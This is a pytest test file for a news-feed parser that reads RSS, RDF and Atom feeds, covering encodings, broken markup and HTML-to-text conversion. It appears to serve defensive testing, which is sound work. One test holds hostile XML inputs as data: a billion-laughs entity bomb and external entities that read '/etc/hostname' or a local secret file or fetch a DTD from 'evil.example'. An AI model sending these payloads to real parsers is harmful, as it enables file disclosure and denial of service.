"""Feeds: RSS of every make, Atom, broken and hostile ones. One item is one report, and one bad item loses no other."""

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tellings.read import Readings, ReadOptions, read
from tellings.read.markup import plain

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>Harbour Post</title><link>https://harbour.example/</link><language>en-GB</language>
<image><title>Logo</title></image>
<item><title>Ferry Alma sinks &amp;amp; all are saved</title><link>https://harbour.example/alma</link>
 <guid isPermaLink="false">hp-17</guid><media:title>Picture of a ferry</media:title>
 <pubDate>Fri, 21 Nov 2025 15:10:00 +0200</pubDate><dc:creator>Ana Ruiz</dc:creator>
 <description><![CDATA[<p>The ferry sank.</p>]]></description>
 <content:encoded><![CDATA[<p>The ferry <b>Alma</b> sank off&nbsp;Port Lorne.</p><script>x()</script><p>All 41 people<br/>were saved.</p>]]></content:encoded></item>
<item><title>Only a headline about the strike</title><guid>https://harbour.example/strike</guid>
 <pubDate>some day</pubDate><author>desk@harbour.example (Bo Okafor)</author></item>
<item><link>https://harbour.example/empty</link></item>
</channel></rss>"""

RSS_1 = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://a.example/rss"><title>Alt Bote</title><dc:language>de</dc:language></channel>
<item rdf:about="https://a.example/1"><title>Fähre sinkt</title><link>https://a.example/1</link>
<description>Alle 41 &lt;i&gt;Menschen&lt;/i&gt; wurden gerettet.</description><dc:date>2025-11-21T15:10+01:00</dc:date></item></rdf:RDF>"""

ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr" xml:base="https://c.example/news/">
<title type="html">Le &lt;b&gt;Courrier&lt;/b&gt;</title><author><name>Rédaction</name></author>
<entry><id>tag:c.example,2025:1</id><title>Le ferry coule</title><link rel="self" href="x.atom"/><link href="ferry.html"/>
<updated>2025-11-21T18:00:00Z</updated><published>2025-11-21T15:10:00Z</published>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Le ferry a coulé.</p><p>Tous sont <em>saufs</em>.</p></div></content></entry>
<entry xml:lang="de"><id>tag:c.example,2025:2</id><title>Streik</title><summary>Kurz.</summary>
<author><name>B. Kern</name></author><source><title>Alt Bote</title></source><content src="https://c.example/v.mp4" type="video/mp4"/></entry></feed>"""


@pytest.fixture(autouse=True)
def inside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def one(name: str, data: bytes | str, **options: object) -> Readings:
    Path(name).parent.mkdir(parents=True, exist_ok=True)
    Path(name).write_bytes(data if isinstance(data, bytes) else data.encode())
    return read([name], options=ReadOptions(**options))  # type: ignore[arg-type]


def test_rss_items_are_reports() -> None:
    found = one("feed.txt", RSS)
    first, second = found.reports
    assert (first.path, first.title, first.url) == (
        "feed.txt#1", "Ferry Alma sinks & all are saved", "https://harbour.example/alma")  # fmt: skip
    assert first.body == "The ferry Alma sank off\xa0Port Lorne.\n\nAll 41 people\nwere saved."
    assert (first.published, first.byline) == ("2025-11-21T15:10:00+02:00", "Ana Ruiz")
    assert (first.outlet, first.lang, first.medium) == ("Harbour Post", "en-GB", "text")
    assert (second.body, second.title, second.url) == (
        "Only a headline about the strike", None, "https://harbour.example/strike")  # fmt: skip
    assert (second.published, second.byline) == (None, "Bo Okafor")
    assert "not understood" in second.notes[0]
    assert [f.subject for f in found.failures] == ["feed.txt#3"]


def test_rss_1_keeps_items_beside_the_channel() -> None:
    (report,) = one("a.rdf", RSS_1).reports
    assert (report.title, report.body, report.outlet) == (
        "Fähre sinkt",
        "Alle 41 Menschen wurden gerettet.",
        "Alt Bote",
    )
    assert (report.lang, report.published, report.url) == ("de", "2025-11-21T15:10+01:00", "https://a.example/1")


def test_atom() -> None:
    first, second = one("a.atom", ATOM).reports
    assert (first.title, first.body) == ("Le ferry coule", "Le ferry a coulé.\n\nTous sont saufs.")
    assert (first.url, first.published) == ("https://c.example/news/ferry.html", "2025-11-21T15:10:00+00:00")
    assert (first.outlet, first.lang, first.byline) == ("Le Courrier", "fr", "Rédaction")
    assert (second.body, second.outlet, second.lang, second.byline) == ("Kurz.", "Alt Bote", "de", "B. Kern")
    assert (second.url, second.published) == (None, None)


def test_an_item_keeps_its_id_in_whatever_file_it_comes() -> None:
    alone = RSS.replace("<title>Harbour Post</title>", "<title>Harbour Post: World</title>")
    alone = alone[: alone.index("<item><title>Only")] + "</channel></rss>"
    before, after = one("a.xml", RSS).reports[0], one("b.xml", alone).reports[0]
    assert (before.id, before.path, after.path) == (after.id, "a.xml#1", "b.xml")
    assert len(read(["a.xml", "b.xml"]).reports) == 2


@pytest.mark.parametrize("encoding", ["windows-1251", "utf-16", "koi8-r", "utf-8-sig"])
def test_encodings(encoding: str) -> None:
    text = RSS.replace("UTF-8", encoding.removesuffix("-sig")).replace("Only a headline", "Паром затонул у берегов")
    assert "Паром затонул" in one("a.xml", text.encode(encoding, "replace")).reports[1].body


def test_what_the_web_breaks_is_mended_and_said() -> None:
    text = RSS.replace("Only a headline", "Fish & chips&nbsp;\x0bcaf&eacute;")
    found = one("a.xml", text)
    assert found.reports[1].body.startswith("Fish & chips café about")
    assert "mended broken XML" in found.reports[1].notes
    assert len(found.failures) == 1


def test_a_feed_that_is_cut_off_gives_what_there_is() -> None:
    found = one("a.xml", RSS[: RSS.index("<item><link>") + 9])
    assert [r.path for r in found.reports][:2] == ["a.xml#1", "a.xml#2"]
    assert any("parts may be lost" in f.message for f in found.failures)


LAUGHS = """<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>"""


@pytest.mark.parametrize(
    "prolog",
    [
        LAUGHS,
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY d SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE rss SYSTEM ">" [<!ENTITY d SYSTEM "secret.txt">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
    ],
)
def test_entities_are_never_read(prolog: str) -> None:
    Path("secret.txt").write_text("TOP SECRET")
    found = one("a.xml", f"{prolog}<rss><channel><item><title>All is &d; here</title></item></channel></rss>")
    assert not found.reports
    assert "entities of its own" in found.failures[0].message


def test_a_doctype_alone_does_no_harm() -> None:
    text = (
        '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.example/rss-0.91.dtd">'
        + RSS[RSS.index("<rss") :]
    )
    assert len(one("a.xml", text).reports) == 2


def test_deep_and_empty_feeds() -> None:
    deep = "<rss><channel><item><title>" + "<b>" * 5000 + "x" + "</b>" * 5000 + "</title></item></channel></rss>"
    assert one("deep.xml", deep).failures
    assert (
        "no items" in one("none.xml", "<rss><channel><title>Harbour Post</title></channel></rss>").failures[0].message
    )


def test_xml_of_no_known_kind_is_no_report() -> None:
    found = one("a.xml", '<?xml version="1.0"?><!-- x --><invoice><sum>12</sum></invoice>')
    assert not found.reports
    assert "not known (invoice)" in found.failures[0].message


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Profit < 5 % & rising", "Profit < 5 % & rising"),
        ("One.\nTwo.", "One.\nTwo."),
        ("R&amp;D is &#8220;up&#8221;", "R&D is “up”"),
        ("<p>One <a href=x>two</a>.\n\nThree</p><ul><li>a</li><li>b</li></ul>", "One two. Three\n\na\nb"),
        ("<p>Broken <b>tag <p>next<!-- gone --> one", "Broken tag\n\nnext one"),
        ("<style>p {}</style><p>Seen</p> tail", "Seen\n\ntail"),
    ],
)
def test_html_becomes_paragraphs(text: str, expected: str) -> None:
    assert plain(text) == expected


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.sampled_from([RSS, RSS_1, ATOM, "<rss>", "<feed>", "<?xml ", "<!DOCTYPE rss [", "<rdf:RDF"]),
    st.integers(0, 2500),
    st.binary(max_size=60),
)
def test_nothing_crashes(opening: str, cut: int, tail: bytes) -> None:
    found = one("a.xml", opening.encode()[:cut] + tail)
    assert found.reports or found.failures


def test_a_text_that_repeats_the_title_is_a_title_alone() -> None:
    text = "<rss><channel><item><title>Ferry sinks - Harbour Post</title><description>Ferry sinks  Harbour Post</description></item></channel></rss>"
    assert [(r.body, r.title) for r in one("a.xml", text).reports] == [("Ferry sinks - Harbour Post", None)]


def test_hostile_repetition_takes_no_long_time() -> None:
    for inner in ("<!--" * 200_000, "<a " * 200_000, "<div>" * 50_000 + "words", "&" * 200_000):
        text = (
            f"<rss><channel><item><title>x</title><description><![CDATA[{inner}]]></description></item></channel></rss>"
        )
        assert one("a.xml", text).reports
